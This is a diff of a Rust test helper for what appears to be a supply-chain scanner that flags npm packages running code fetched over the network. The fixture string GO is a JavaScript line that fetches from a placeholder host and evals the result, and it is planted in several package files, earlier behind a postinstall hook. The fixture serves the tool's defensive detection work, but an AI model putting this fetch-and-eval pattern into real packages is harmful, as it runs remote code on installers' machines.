@@ -1,34 +1,19 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::{remote_code, script};
+use crate::unpack::text_file as file;
+use customs_model::Zone;
 
 const GO: &str = "() => fetch('https://a.invalid/b').then(r => r.text()).then(eval)";
 
 /// When what comes over the network is run, at the earliest.
 fn runs(code: &str) -> Option<Zone> {
-    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#;
-    let found = analyse(&Package::new(&Tree {
-        entries: vec![
-            file("package/package.json", manifest),
-            file("package/i.js", code),
-            file(
-                "x.mjs",
-                &format!("export const go = {GO};\nexport default go;\n"),
-            ),
-            file("package/lib/y.js", &format!("({GO})();\n")),
-            file("package/lib/linux.js", &format!("({GO})();\n")),
-            file("package/linux.js", &format!("({GO})();\n")),
-            file("package/d.dat", &format!("({GO})();\n")),
-        ],
-        ..Tree::default()
-    }));
-    found
-        .flows
-        .iter()
-        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
-        .map(|flow| flow.zone)
-        .max()
+    let mut entries = script(code);
+    let module = format!("export const go = {GO};\nexport default go;\n");
+    entries.push(file("x.mjs", &module));
+    for path in ["lib/y.js", "lib/linux.js", "linux.js", "d.dat"] {
+        let path = format!("package/{path}");
+        entries.push(file(&path, &format!("({GO})();\n")));
+    }
+    remote_code(entries)
 }
 
 #[test]
